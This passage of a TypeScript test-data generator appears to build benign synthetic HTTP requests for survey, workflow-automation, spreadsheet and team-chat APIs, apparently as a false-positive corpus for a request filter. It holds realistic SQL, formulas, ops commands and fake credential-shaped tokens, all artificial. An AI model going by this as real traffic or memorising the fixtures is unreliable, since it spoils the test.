            rating: int(1, 5),
            title: pick(['Logs me out constantly', 'Best CX tool', 'Meh']),
            body: pick(FEEDBACK),
            author: pick(['jdoe_88', 'Käthe M.', 'ᴄʜʀɪs']),
            version: '2.4.7',
            territory: pick(['USA', 'DEU', 'JPN']),
          },
        ],
      }),
    () =>
      gql(
        'survey',
        '/graphql',
        'query NpsTrend($surveyId: ID!, $from: DateTime!, $to: DateTime!, $segment: SegmentFilter) { nps(surveyId: $surveyId, from: $from, to: $to, interval: WEEK, segment: $segment) { bucket promoters passives detractors score } }',
        {
          surveyId: sv(),
          from: iso(),
          to: iso(),
          segment: { plan: pick(['team', 'enterprise']), country: { in: ['DE', 'AT', 'CH'] } },
        },
        'NpsTrend',
      ),
    () =>
      jsonPatch('survey', `/v3/responses/${oid('resp')}`, [
        { op: 'add', path: '/tags/-', value: pick(['bug', 'pricing', 'churn-risk']) },
        { op: 'replace', path: '/status', value: 'closed_loop_done' },
        {
          op: 'add',
          path: '/notes',
          value: pick([
            'Called customer, export bug tracked in JIRA CX-1182 (apostrophes in names).',
            'Offered 20% discount; declined.',
          ]),
        },
      ]),
    () => delReq('survey', `/v3/responses/${oid('resp')}?${qs({ gdpr: true, requested_by: pick(EMAILS) })}`),
    () =>
      jsonReq('survey', 'rest-write', 'POST', '/v3/distributions/email', {
        distribution: {
          survey_id: sv(),
          subject: 'Quick question, {{contact.first_name | default: "there"}} 👋',
          from: 'Acme CX <cx@acme.example>',
          reply_to: 'cx+replies@acme.example',
          list_id: oid('lst'),
          send_at: iso(),
          filter: "plan = 'team' AND last_seen > now() - interval '30 days'",
        },
      }),
    () =>
      mergePatch('survey', `/v3/contacts/${oid('ct')}`, {
        first_name: pick(PEOPLE).split(' ')[0],
        unsubscribed: chance(0.3),
        attributes: { plan: pick(['team', 'starter']), mrr: int(20, 4000), 'last nps': int(0, 10) },
      }),
    () =>
      getReq(
        'survey',
        'rest-get',
        `/v3/exports/${oid('exp')}/download?${qs({ format: pick(['csv', 'xlsx', 'json']), tz: pick(['Europe/Berlin', 'America/Sao_Paulo', 'Asia/Tokyo']), columns: 'nps,why,email,submitted_at' })}`,
      ),
  ];
  return roundRobin(t, 56);
}

// ---------------------------------------------------------------- 6. no-code workflow automation
const JS_STEPS = [
  `// Normalise incoming leads
const out = [];
for (const item of $input.all()) {
  const email = (item.json.email || '').trim().toLowerCase();
  if (!/^[^@\\s]+@[^@\\s]+\\.[^@\\s]+$/.test(email)) continue;
  out.push({ json: { ...item.json, email, fullName: \`\${item.json.first ?? ''} \${item.json.last ?? ''}\`.trim() } });
}
return out;`,
  `const crypto = require('crypto');
const sig = crypto.createHmac('sha256', $env.SHOPIFY_SECRET).update($json.rawBody, 'utf8').digest('base64');
if (sig !== $json.headers['x-shopify-hmac-sha256']) {
  throw new Error('Invalid signature');
}
return [{ json: JSON.parse($json.rawBody) }];`,
  `// Split full address into parts
const [street, rest = ''] = inputData.address.split('\\n');
const m = rest.match(/^(.*),\\s*([A-Z]{2})\\s+(\\d{5}(-\\d{4})?)$/);
output = { street, city: m?.[1], state: m?.[2], zip: m?.[3] };`,
  `const rows = items.map(i => i.json);
const total = rows.reduce((s, r) => s + Number(r.amount || 0), 0);
return [{ json: { total: Math.round(total * 100) / 100, count: rows.length, generatedAt: new Date().toISOString() } }];`,
];
const PY_STEPS = [
  `import re
import json

def main(input_data):
    text = input_data.get("body", "")
    order_ids = re.findall(r"#(\\d{5,})", text)
    return {"order_ids": order_ids, "count": len(order_ids)}

output = main(input_data)`,
  `import requests
resp = requests.get(
    "https://api.exchangerate.example/latest",
    params={"base": input_data["currency"], "symbols": "EUR,GBP"},
    timeout=10,
)
resp.raise_for_status()
output = {"rate_eur": resp.json()["rates"]["EUR"]}`,
  `from datetime import datetime, timedelta
due = datetime.fromisoformat(input_data["created"]) + timedelta(days=int(input_data.get("sla_days", 3)))
output = {"due": due.isoformat(), "overdue": due < datetime.utcnow()}`,
];

function flowClean(): Req[] {
  const wf = (): string => str(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789');
  const t: Array<() => Req> = [
    () =>
      jsonReq('flow', 'rest-write', 'POST', '/rest/workflows', {
        name: pick([
          'New Typeform lead → HubSpot + Slack',
          'Stripe failed payment → dunning email',
          'Daily digest of Jira tickets',
          'Gmail invoice PDF → Google Drive → Xero',
        ]),
        active: false,
        nodes: [
          {
            id: uuid(),
            name: 'Webhook',
            type: 'trigger.webhook',
            parameters: { path: uuid(), httpMethod: 'POST', responseMode: 'onReceived' },
            position: [240, 300],
          },
          {
            id: uuid(),
            name: 'IF',
            type: 'logic.if',
            parameters: {
              conditions: {
                string: [{ value1: '={{ $json.body.plan }}', operation: 'equal', value2: 'enterprise' }],
                number: [{ value1: '={{ $json.body.seats }}', operation: 'larger', value2: 50 }],
              },
            },
            position: [460, 300],
          },
          {
            id: uuid(),
            name: 'Send Slack',
            type: 'app.slack',
            parameters: {
              channel: '#sales-leads',
              text: ':tada: New lead *{{ $json.body.company }}* ({{ $json.body.seats }} seats) — <{{ $json.body.url }}|view in CRM>',
            },
            position: [680, 220],
          },
        ],
        connections: {
          Webhook: { main: [[{ node: 'IF', type: 'main', index: 0 }]] },
          IF: { main: [[{ node: 'Send Slack', type: 'main', index: 0 }], []] },
        },
        settings: {
          timezone: pick(['Europe/Berlin', 'America/New_York']),
          errorWorkflow: wf(),
          saveDataErrorExecution: 'all',
        },
      }),
    () =>
      jsonReq('flow', 'code', 'PATCH', `/rest/workflows/${wf()}/nodes/${uuid()}`, {
        node: { type: 'code.javascript', parameters: { mode: 'runOnceForAllItems', jsCode: pick(JS_STEPS) } },
      }),
    () =>
      jsonReq('flow', 'code', 'PATCH', `/rest/workflows/${wf()}/nodes/${uuid()}`, {
        node: { type: 'code.python', parameters: { pythonCode: pick(PY_STEPS) } },
      }),
    () =>
      jsonReq('flow', 'code', 'PUT', `/api/v1/zaps/${int(100000000, 999999999)}/steps/${int(1, 9)}`, {
        step: {
          app: 'code',
          input_data: {
            address: '{{2__shipping_address}}',
            body: '{{1__body_plain}}',
            created: '{{1__created_at}}',
          },
          ...(chance(0.5)
            ? { action: 'run_javascript', code: pick(JS_STEPS) }
            : { action: 'run_python', code: pick(PY_STEPS) }),
        },
      }),
    () =>
      jsonReq('flow', 'rest-write', 'POST', `/webhook/${uuid()}`, {
        event: 'form_response',
        form_response: {
          form_id: str(8),
          submitted_at: iso(),
          answers: [
            { type: 'text', text: pick(PEOPLE), field: { ref: 'name' } },
            { type: 'email', email: pick(EMAILS), field: { ref: 'email' } },
            { type: 'long_text', text: pick(FEEDBACK), field: { ref: 'message' } },
            { type: 'number', number: int(1, 500), field: { ref: 'seats' } },
          ],
          hidden: { utm_campaign: 'spring_26', ref: 'https://partner.example/?aff=123&sub=lp-b' },
        },
      }),
    () =>
      jsonReq('flow', 'rest-write', 'POST', `/webhook/${uuid()}`, {
        id: `evt_${str(24)}`,
        object: 'event',
        type: pick(['invoice.payment_failed', 'customer.subscription.deleted', 'charge.refunded']),
        data: {
          object: {
            id: `in_${str(24)}`,
            customer: `cus_${str(14)}`,
            amount_due: int(500, 90000),
            currency: 'eur',
            customer_email: pick(EMAILS),
            last_finalization_error: null,
            metadata: { order: `#${int(10000, 99999)}`, note: "VIP – don't auto-cancel" },
          },
        },
        livemode: true,
      }),
    () =>
      jsonReq('flow', 'rest-write', 'PUT', `/rest/workflows/${wf()}/nodes/${uuid()}`, {
        node: {
          type: 'logic.filter',
          parameters: {
            formula: pick([
              "={{ $json.amount > 1000 && $json.currency === 'EUR' && !$json.tags.includes('test') }}",
              '={{ $json.email.endsWith("@acme.example") || $json.domain in ["acme.example", "acme.co.uk"] }}',
              "={{ DateTime.fromISO($json.created).diffNow('days').days < -7 }}",
              '={{ ($json.status || "").toLowerCase() !== "closed" ? $json.priority : "none" }}',
            ]),
            conditions: [
              {
                field: '{{steps.trigger.data.status}}',
                operator: pick(['equals', 'not_equals', 'contains', 'greater_than']),
                value: pick(['paid', 'refunded', '100', "O'Brien"]),
              },
            ],
          },
        },
      }),
    () =>
      jsonReq('flow', 'cms-html', 'PUT', `/rest/templates/${wf()}`, {
        template: {
          name: pick(['Dunning email #1', 'Welcome email (DE)', 'Weekly digest']),
          subject: 'Payment failed for invoice {{ $json.data.object.number }}',
          html: pick([
            '<p>Hi {{ $json.customer.name | default: "there" }},</p><p>We couldn&rsquo;t charge your card ending in <b>{{ $json.card.last4 }}</b>. Please <a href="{{ $json.hosted_invoice_url }}">update your payment method</a>.</p>{% if $json.attempt_count > 2 %}<p style="color:#b00">Your subscription will be cancelled on {{ $json.next_attempt | date: "%d %b" }}.</p>{% endif %}',
            '<table width="100%"><tr>{% for t in $json.tickets %}<td><a href="https://jira.example/browse/{{ t.key }}">{{ t.key }}</a> {{ t.summary | escape }}</td>{% endfor %}</tr></table>',
            '<p>Hallo {{ $json.vorname }},</p><p>willkommen bei <strong>Acme</strong>! Ihr Zugang: <code>{{ $json.username }}</code></p>',
          ]),
        },
      }),
    () =>
      jsonReq('flow', 'rest-write', 'POST', `/rest/credentials`, {
        ...pick([
          {
            name: 'Postgres (reporting replica)',
            type: 'postgres',
            data: {
              host: 'reporting-replica.internal.acme.example',
              port: 5432,
              database: 'analytics',
              user: 'flowloom_ro',
              password: str(24),
              ssl: 'require',
            },
          },
          {
            name: 'SMTP – Mailgun EU',
            type: 'smtp',
            data: {
              host: 'smtp.eu.mailgun.example',
              port: 587,
              user: 'postmaster@mg.acme.example',
              password: str(32),
              secure: false,
            },
          },
          {
            name: 'HubSpot – prod',
            type: 'hubspotOAuth2Api',
            data: {
              clientId: uuid(),
              clientSecret: str(36),
              scope: 'crm.objects.contacts.read crm.objects.deals.write',
            },
          },
        ]),
      }),
    () =>
      jsonReq('flow', 'rest-write', 'PUT', `/rest/workflows/${wf()}/nodes/${uuid()}`, {
        node: {
          type: 'db.postgres',
          parameters: {
            operation: 'executeQuery',
            query: pick([
              "SELECT id, email, plan FROM customers WHERE created_at > now() - interval '1 day' AND plan <> 'free' ORDER BY created_at DESC LIMIT 500;",
              'INSERT INTO lead_events (lead_id, kind, payload) VALUES ($1, $2, $3::jsonb) ON CONFLICT (lead_id, kind) DO UPDATE SET payload = EXCLUDED.payload;',
              "UPDATE invoices SET status = 'dunning_1' WHERE id = {{ $json.invoice_id }} AND status = 'open';",
            ]),
            queryParams: '={{ [$json.id, "form_submit", JSON.stringify($json)] }}',
          },
        },
      }),
    () =>
      getReq(
        'flow',
        'rest-get',
        `/rest/executions?${qs({ filter: JSON.stringify({ workflowId: wf(), status: pick(['error', 'success', 'waiting']), startedAfter: iso() }), limit: 20, lastId: int(1000, 99999) })}`,
      ),
    () =>
      jsonReq('flow', 'rest-write', 'PUT', `/rest/workflows/${wf()}/nodes/${uuid()}`, {
        node: {
          type: 'http.request',
          parameters: {
            method: 'POST',
            url: pick([
              'https://api.hubapi.example/crm/v3/objects/contacts',
              'https://hooks.huddlechat.example/services/T0/B0/' + str(24),
              'https://api.airtable.example/v0/app' + str(14) + '/Leads',
            ]),
            headers: {
              Authorization: 'Bearer {{ $credentials.accessToken }}',
              'Content-Type': 'application/json',
            },
            body: '={{ JSON.stringify({ properties: { email: $json.email, firstname: $json.first, company: $json.company } }) }}',
            options: { timeout: 10000, retry: { maxTries: 3, waitBetweenTries: 2000 } },
          },
        },
      }),
    () =>
      formReq('flow', `/webhook-test/${uuid()}`, [
        ['name', pick(PEOPLE)],
        ['email', pick(EMAILS)],
        ['message', pick(FEEDBACK)],
        ['g-recaptcha-response', str(120, B64URL)],
      ]),
    () => delReq('flow', `/rest/executions/${int(1000, 999999)}`),
  ];
  return roundRobin(t, 56);
}

// ---------------------------------------------------------------- 7. collaborative spreadsheets
const FORMULAS = [
  '=SUM(B2:B200)',
  '=IFERROR(VLOOKUP($A2,Customers!$A:$F,4,FALSE),"—")',
  '=IF(AND(C2>0,D2<>""),C2*D2,0)',
  '=SUMIFS(Sales[Amount],Sales[Region],"EMEA",Sales[Date],">="&DATE(2026,1,1))',
  "=QUERY(Data!A:E,\"select A, sum(E) where B = 'Closed Won' and C > date '2026-01-01' group by A order by sum(E) desc label sum(E) 'Revenue'\",1)",
  '=ARRAYFORMULA(IF(ROW(A:A)=1,"Total",IF(LEN(A:A),B:B*C:C,)))',
  '=IMPORTRANGE("https://docs.gridnote.example/spreadsheets/d/1AbC' + 'dEfGhIjK/edit","Budget 2026!A1:H40")',
  '=XLOOKUP(G3,Products[SKU],Products[Price],"not found",0,1)',
  '=TEXT(TODAY()-A2,"0")&" days"',
  '=REGEXEXTRACT(B2,"#(\\d{5,})")',
  '=LET(rev,SUM(Q1:Q4),cost,SUM(C1:C4),IF(rev=0,NA(),(rev-cost)/rev))',
  '=HYPERLINK("https://crm.example/deals/"&A2,"Open deal")',
  "='Q1 Forecast'!B7*(1+$H$1)",
  '=COUNTIF(Responses!D:D,"<7")/COUNTA(Responses!D:D)',
  '=FILTER(Tasks!A2:D,Tasks!C2:C="Open",Tasks!D2:D<TODAY())',
];

function sheetClean(): Req[] {
  const ss = (): string => `1${str(43, B64URL)}`;
  const t: Array<() => Req> = [
    () =>
      getReq(
        'sheet',
        'rest-get',
        `/v4/spreadsheets/${ss()}/values/${encodeURIComponent(pick(["'Q1 Forecast'!A1:H40", 'Sheet1!A:A', 'Data!B2:E', "'Budget 2026 (v2)'!C3:C99"]))}?${qs({ valueRenderOption: pick(['FORMATTED_VALUE', 'FORMULA']), majorDimension: 'ROWS' })}`,
      ),
    () =>
      jsonReq('sheet', 'rest-write', 'POST', `/v4/spreadsheets/${ss()}/values:batchUpdate`, {
        valueInputOption: 'USER_ENTERED',
        data: [
          {
            range: `Sheet1!A${int(2, 500)}:D${int(2, 500)}`,
            values: [
              [pick(PEOPLE), pick(FORMULAS), int(1, 9000), pick(['Closed Won', 'Open', "Won't fix", '#N/A'])],
            ],
          },
          { range: 'Summary!B2', values: [[pick(FORMULAS)]] },
        ],
      }),
    () =>
      jsonReq(
        'sheet',
        'rest-write',
        'PUT',
        `/v4/spreadsheets/${ss()}/cells/${pick(['A1', 'B7', 'H1', 'Z99', 'AA12'])}`,
        {
          cell: {
            formula: pick(FORMULAS),
            format: {
              numberFormat: pick(['#,##0.00 "€"', '0.0%', 'yyyy-mm-dd', '[$$-409]#,##0;[Red]-[$$-409]#,##0']),
            },
            note: pick(['', 'Source: finance export 03/26', "Don't overwrite – linked from 'Board deck'"]),
          },
        },
      ),
    () =>
      jsonReq('sheet', 'rest-write', 'POST', `/v4/spreadsheets/${ss()}:batchUpdate`, {
        requests: [
          {
            addNamedRange: {
              namedRange: {
                name: pick(['TaxRate', 'FX_EURUSD', 'Headcount_2026', 'Q1_Revenue']),
                range: {
                  sheetId: int(0, 9),
                  startRowIndex: 0,
                  endRowIndex: 1,
                  startColumnIndex: 7,
                  endColumnIndex: 8,
                },
              },
            },
          },
          {
            updateSheetProperties: {
              properties: {
                sheetId: int(0, 9),
                title: pick(['Q1 Forecast', 'Données brutes', 'Ventas 2026', '予算']),
              },
              fields: 'title',
            },
          },
          {
            addConditionalFormatRule: {
              rule: {
                ranges: [{ sheetId: 0, startRowIndex: 1 }],
                booleanRule: {
                  condition: {
                    type: 'CUSTOM_FORMULA',
                    values: [{ userEnteredValue: '=AND($D2<TODAY(),$C2<>"Done")' }],
                  },
                  format: { backgroundColor: { red: 1, green: 0.8, blue: 0.8 } },
                },
              },
              index: 0,
            },
          },
        ],
      }),
    () =>
      jsonReq('sheet', 'rest-write', 'POST', `/v4/spreadsheets/${ss()}/pivots`, {
        pivot: {
          source: "'Sales Data'!A1:G5000",
          rows: [{ sourceColumnOffset: 1, sortOrder: 'ASCENDING', label: 'Region' }],
          columns: [{ sourceColumnOffset: 3, groupRule: { dateTimeRule: { type: 'YEAR_QUARTER' } } }],
          values: [
            { summarizeFunction: 'SUM', sourceColumnOffset: 5, name: 'Revenue' },
            {
              summarizeFunction: 'CUSTOM',
              formula: "=SUM('Amount')/COUNTUNIQUE('Customer')",
              name: 'Rev/customer',
            },
          ],
          criteria: {
            '2': { visibleValues: ['Closed Won'] },
            '4': { condition: { type: 'NUMBER_GREATER', values: [{ userEnteredValue: '1000' }] } },
          },
          destination: 'Pivot!A1',
        },
      }),
    () =>
      jsonPatch('sheet', `/v4/spreadsheets/${ss()}/sheets/${int(0, 9)}/cells`, [
        { op: 'replace', path: `/${pick(['B', 'C', 'D'])}${int(2, 99)}/formula`, value: pick(FORMULAS) },
        { op: 'replace', path: `/E${int(2, 99)}/value`, value: pick(['N/A', '-', '42', 'TBD', '#DIV/0!']) },
        { op: 'remove', path: `/F${int(2, 99)}` },
      ]),
    () =>
      ndjsonReq('sheet', `/v4/spreadsheets/${ss()}/collab/ops`, [
        { rev: int(100, 9000), user: oid('usr'), op: 'set', cell: 'C12', v: pick(FORMULAS) },
        { rev: int(100, 9000), user: oid('usr'), op: 'insert_rows', at: int(1, 300), count: int(1, 5) },
        {
          rev: int(100, 9000),
          user: oid('usr'),
          op: 'comment',
          cell: 'B4',
          text: pick([
            "@Priya why is this #REF!? I think someone deleted the 'FX' tab",
            'Numbers here are in k€, not €',
            'ok to lock this range?',
          ]),
        },
        { rev: int(100, 9000), user: oid('usr'), op: 'cursor', range: 'A1:C3' },
      ]),
    () =>
      multipartReq('sheet', `/v4/spreadsheets/import`, [
        { name: 'title', content: pick(['Budget 2026 – import', 'Leads (from CRM)', 'Inventaire mars']) },
        { name: 'convert', content: 'true' },
        {
          name: 'file',
          filename: pick(['leads.csv', 'budget.csv']),
          type: 'text/csv',
          content: `name,email,company,amount,notes\n"O'Brien, Siobhán",siobhan@example.ie,"Acme, Inc.",12000,"Said ""call me after 3pm"""\nJosé Núñez,jose@example.es,Núñez & Hijos,=1200*12,formula in cell (from Excel)\n"Zhang Wei",wei@example.cn,北京示例科技,8800,\nTest User,test+1@example.com,"=HYPERLINK(""https://example.com"",""site"")",0,imported twice?\n`,
        },
      ]),
    () =>
      jsonReq('sheet', 'code', 'PUT', `/v4/spreadsheets/${ss()}/script`, {
        script: {
          language: 'javascript',
          source: pick([
            "function onEdit(e) {\n  const r = e.range;\n  if (r.getSheet().getName() !== 'Tasks' || r.getColumn() !== 3) return;\n  if (e.value === 'Done') r.offset(0, 2).setValue(new Date());\n}",
            '/** @customfunction */\nfunction VAT(amount, country) {\n  const rates = { DE: 0.19, FR: 0.2, PL: 0.23, JP: 0.1 };\n  return amount * (rates[country] ?? 0);\n}',
            "function sendDigest() {\n  const rows = SpreadsheetApp.getActive().getSheetByName('Leads').getDataRange().getValues();\n  const open = rows.filter(r => r[3] === 'Open');\n  MailApp.sendEmail('sales@acme.example', `Open leads: ${open.length}`, open.map(r => r.join(' | ')).join('\\n'));\n}",
          ]),
        },
      }),
    () =>
      gql(
        'sheet',
        '/graphql',
        'mutation Share($id: ID!, $grants: [GrantInput!]!) { shareSpreadsheet(id: $id, grants: $grants) { id permissions { principal role } } }',
        {
          id: ss(),
          grants: [
            { principal: pick(EMAILS), role: pick(['viewer', 'commenter', 'editor']) },
            { principal: 'domain:acme.example', role: 'viewer' },
          ],
        },
        'Share',
      ),
    () =>
      getReq(
        'sheet',
        'search',
        `/v4/files/search?${qs({ q: pick(["name contains 'Budget' and modifiedTime > '2026-01-01T00:00:00'", "mimeType = 'spreadsheet' and 'me' in owners and not trashed", 'fullText contains "VLOOKUP(" and starred = true']), orderBy: 'modifiedTime desc', pageSize: 50 })}`,
      ),
    () =>
      mergePatch('sheet', `/v4/spreadsheets/${ss()}/properties`, {
        title: pick(["Q1 Forecast (DON'T EDIT)", 'Budget 2026 v2 – FINAL', 'Kosten/Nutzen – Entwurf']),
        locale: pick(['de_DE', 'en_US', 'ja_JP']),
        timeZone: 'Europe/Berlin',
        autoRecalc: 'ON_CHANGE',
        iterativeCalculation: null,
      }),
    () =>
      delReq(
        'sheet',
        `/v4/spreadsheets/${ss()}/namedRanges/${pick(['TaxRate', 'FX_EURUSD', 'old_range_1'])}`,
      ),
    () =>
      getReq(
        'sheet',
        'rest-get',
        `/v4/spreadsheets/${ss()}/export?${qs({ format: pick(['xlsx', 'csv', 'pdf']), gid: int(0, 2000000000), range: 'A1:H200', portrait: false, fitw: true })}`,
      ),
  ];
  return roundRobin(t, 56);
}

// ---------------------------------------------------------------- 8. team chat
const CHAT_MSGS = [
  'deploy is blocked, CI fails on `npm ci` with `EINTEGRITY` — anyone seen this? tried `rm -rf node_modules package-lock.json && npm install` locally and it works :thinking_face:',
  "can someone with prod access run this? ```kubectl -n payments logs deploy/api --since=15m | grep -i 'timeout' | tail -n 50```",
  "FYI the migration is going to lock `orders` for ~2 min:\n```sql\nALTER TABLE orders ADD COLUMN refunded_at timestamptz;\nUPDATE orders SET refunded_at = updated_at WHERE status = 'refunded';\n```\nrunning it at 22:00 UTC unless someone objects",
  "here's the stack trace from Sentry:\n```\nTypeError: Cannot read properties of undefined (reading 'id')\n    at InvoiceService.finalize (/app/dist/services/invoice.js:214:33)\n    at async Promise.all (index 3)\n    at async /app/dist/routes/billing.js:88:5\n```",
  '```\njava.lang.NullPointerException: Cannot invoke "com.acme.core.User.getEmail()" because "user" is null\n\tat com.acme.notify.EmailSender.send(EmailSender.java:57)\n\tat com.acme.notify.Dispatcher.lambda$dispatch$0(Dispatcher.java:31)\n\tat java.base/java.util.concurrent.ThreadPoolExecutor.runWorker(ThreadPoolExecutor.java:1144)\n```\nonly happens for users created via SCIM',
  'lgtm :shipit: but pls squash before merge',
  'Quick reminder: standup moved to 10:15 tomorrow (dentist 🦷)',
  'use `ssh -J bastion.acme.example deploy@10.20.3.14` — the old jump host is gone',
  'to reproduce: `curl -sS -X POST https://staging-api.acme.example/v2/orders -H "Authorization: Bearer $TOKEN" -H \'Content-Type: application/json\' -d \'{"sku":"ABC-1","qty":2}\' | jq .`',
  'nginx error log is full of these since 14:02:\n```\n2026/03/14 14:02:11 [error] 1734#1734: *88213 upstream timed out (110: Connection timed out) while reading response header from upstream, client: 203.0.113.44, server: api.acme.example, request: "GET /v2/orders?status=open HTTP/1.1", upstream: "http://10.0.4.12:8080/v2/orders?status=open"\n```',
  'Wer hat heute Rufbereitschaft? Der Cronjob `backup-db` ist um 03:00 mit exit code 137 (OOMKilled) abgebrochen.',
  'ok so the fix was literally `export NODE_OPTIONS=--max-old-space-size=4096` 🤦',
  "python one-liner for the CSV dedupe: `python3 -c \"import pandas as pd; pd.read_csv('in.csv').drop_duplicates('email').to_csv('out.csv', index=False)\"`",
  '> Can we drop support for IE11?\nwe did that in 2022 😅',
  '今日のリリースは延期します。QA で決済画面のバグが見つかりました（#4821）。',
  'anyone know why `git log --oneline origin/main..HEAD` shows 43 commits? did someone force-push to my branch??',
  'PSA: rotate your AWS keys if you ran the `scripts/dev-setup.sh` from before Tuesday, it printed them to the log. `aws iam list-access-keys --user-name $(whoami)`',
  "@here the office wifi password changed → it's on the whiteboard next to the kitchen",
  "Log4j again? nope — the scanner alert is from the old Elasticsearch 5 box, it's been offline since January. Ticket SEC-311 closed.",
  "for the record, the query that took down the replica:\n```sql\nSELECT * FROM events e JOIN users u ON u.id = e.user_id WHERE e.created_at > now() - interval '90 days' ORDER BY e.created_at;\n```\nno LIMIT, no index on created_at 🙃",
];

function chatClean(): Req[] {
  const ch = (): string => `C${str(10, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')}`;
  const ts = (): string =>
    `${Math.floor(BASE_MS / 1000) + int(0, 80 * 86400)}.${String(int(0, 999999)).padStart(6, '0')}`;
  const t: Array<() => Req> = [
    () =>
      jsonReq('chat', 'prose', 'POST', '/api/chat.postMessage', {
        channel: ch(),
        text: pick(CHAT_MSGS),
        thread_ts: chance(0.4) ? ts() : undefined,
        unfurl_links: chance(0.5),
        mrkdwn: true,
      }),
    () =>
      formReq('chat', '/api/chat.postMessage', [
        ['channel', ch()],
        ['text', pick(CHAT_MSGS)],
        ['as_user', 'true'],
        ['token', `xoxp-${int(1000000000, 9999999999)}-${str(24)}`],
      ]),
    () =>
      jsonReq('chat', 'code', 'POST', '/api/snippets.create', {
        snippet: {
          channel: ch(),
          title: pick(['docker-compose.yml', 'deploy.sh', 'query.sql', 'error.log', 'fix.patch']),
          filetype: pick(['yaml', 'shell', 'sql', 'text', 'diff']),
          content: pick([
            "services:\n  api:\n    image: ghcr.io/acme/api:1.42.0\n    environment:\n      DATABASE_URL: postgres://app:${POSTGRES_PASSWORD}@db:5432/app\n      NODE_ENV: production\n    ports: ['8080:8080']\n    depends_on: [db]\n  db:\n    image: postgres:16\n    volumes: ['pgdata:/var/lib/postgresql/data']\nvolumes:\n  pgdata: {}",
            '#!/usr/bin/env bash\nset -euo pipefail\nIMAGE="ghcr.io/acme/api:${1:?usage: deploy.sh <tag>}"\ndocker pull "$IMAGE"\nkubectl -n prod set image deploy/api api="$IMAGE"\nkubectl -n prod rollout status deploy/api --timeout=5m || { kubectl -n prod rollout undo deploy/api; exit 1; }\necho "deployed $IMAGE at $(date -u +%FT%TZ)"',
            "-- slow query from pg_stat_statements\nSELECT u.id, u.email, count(o.id) AS orders\nFROM users u\nLEFT JOIN orders o ON o.user_id = u.id AND o.status <> 'cancelled'\nWHERE u.created_at >= '2026-01-01'\nGROUP BY u.id, u.email\nHAVING count(o.id) > 5\nORDER BY orders DESC;",
            'diff --git a/src/billing/invoice.ts b/src/billing/invoice.ts\n--- a/src/billing/invoice.ts\n+++ b/src/billing/invoice.ts\n@@ -211,7 +211,7 @@ export class InvoiceService {\n-    const id = customer.account.id;\n+    const id = customer?.account?.id;\n+    if (!id) throw new Error(`no account for ${customer?.email}`);',
            '2026-03-14T14:02:11.482Z ERROR [worker-3] job=send-invoices attempt=3 err="dial tcp 10.0.4.12:5432: connect: connection refused"\n2026-03-14T14:02:12.001Z WARN  [worker-3] retrying in 8s\n2026-03-14T14:02:20.015Z INFO  [worker-3] connected to db (pool=10)',
          ]),
        },
      }),
    () =>
      jsonReq('chat', 'rest-write', 'POST', '/api/chat.unfurl', {
        channel: ch(),
        ts: ts(),
        unfurls: {
          [pick([
            'https://github.com/acme/api/pull/4821',
            'https://jira.acme.example/browse/PAY-1182',
            'https://docs.gridnote.example/spreadsheets/d/1AbC/edit#gid=0',
          ])]: {
            blocks: [
              {
                type: 'section',
                text: {
                  type: 'mrkdwn',
                  text: pick([
                    '*#4821 Fix null account in InvoiceService*\n`+12 −3` · 2 approvals · checks ✅',
                    '*PAY-1182* Export breaks on apostrophes\nStatus: *In Progress* · Assignee: Priya',
                  ]),
                },
              },
              {
                type: 'context',
                elements: [
                  {
                    type: 'image',
                    image_url: 'https://avatars.example.com/u/12345?s=40',
                    alt_text: 'avatar',
                  },
                ],
              },
            ],
          },
        },
      }),
    () =>
      getReq(
        'chat',
        'search',
        `/api/search.messages?${qs({ query: pick(['in:#incidents "connection refused" after:2026-03-01', 'from:@priya has:link kubectl', '"OOMKilled" OR "exit code 137"', 'deploy -staging', 'Rufbereitschaft']), sort: 'timestamp', count: 20 })}`,
      ),
    () =>
      getReq(
        'chat',
        'rest-get',
        `/api/conversations.history?${qs({ channel: ch(), limit: 200, oldest: ts(), inclusive: true, cursor: b64(`bmV4dF90czoxNzQx${int(100000, 999999)}`) })}`,
      ),
    () =>
      multipartReq('chat', '/api/files.upload', [
        { name: 'channels', content: ch() },
        {
          name: 'initial_comment',
          content: pick([
            'full log attached, the interesting bit is around line 400',
            'screenshot of the grafana panel',
            'heap dump summary',
          ]),
        },
        { name: 'filetype', content: 'text' },
        {
          name: 'file',
          filename: pick(['api-pod-crash.log', 'server.log', 'gc.log']),
          type: 'text/plain',
          content: `2026-03-14 14:01:59,812 INFO  [main] o.s.b.w.embedded.tomcat.TomcatWebServer : Tomcat started on port(s): 8080 (http)\n2026-03-14 14:02:11,003 ERROR [http-nio-8080-exec-7] o.a.c.c.C.[.[.[/].[dispatcherServlet] : Servlet.service() threw exception\norg.springframework.dao.DataAccessResourceFailureException: Unable to acquire JDBC Connection; nested exception is org.hibernate.exception.JDBCConnectionException\n\tat org.springframework.orm.jpa.vendor.HibernateJpaDialect.convertHibernateAccessException(HibernateJpaDialect.java:255)\n\tat com.acme.orders.OrderRepository$$SpringCGLIB$$0.findOpen(<generated>)\nCaused by: java.net.SocketTimeoutException: Connect timed out\n\t... 87 common frames omitted\n2026-03-14 14:02:20,015 WARN  [HikariPool-1 housekeeper] com.zaxxer.hikari.pool.HikariPool : HikariPool-1 - Thread starvation or clock leap detected (housekeeper delta=1m2s).`,
        },
      ]),
    () =>
      jsonReq('chat', 'rest-write', 'POST', '/api/reactions.add', {
        channel: ch(),
        timestamp: ts(),
        name: pick(['+1', 'eyes', 'white_check_mark', 'tada', 'rotating_light', 'pray']),
      }),
    () =>
      jsonReq('chat', 'rest-write', 'POST', '/api/chat.update', {
        channel: ch(),
        ts: ts(),
        text: pick(CHAT_MSGS),
        blocks: [
          {
            type: 'rich_text',
            elements: [
              {
                type: 'rich_text_preformatted',
                elements: [
                  {
                    type: 'text',
                    text: pick([
                      '$ make test\nFAIL src/billing/invoice.test.ts (2.3 s)',
                      'PS C:\\Users\\jdoe> Get-Service | Where-Object {$_.Status -eq "Stopped"}',
                      'mysql> SHOW PROCESSLIST;\n| 88213 | app | 10.0.4.12:51234 | orders | Query | 412 | Sending data | SELECT ... |',
                    ]),
                  },
                ],
              },
            ],
          },
        ],
      }),
    () =>
      jsonReq(
        'chat',
        'rest-write',
        'POST',
        `/api/webhooks/incoming/T0${str(8, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')}/B0${str(8, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')}`,
        {
          text: pick([
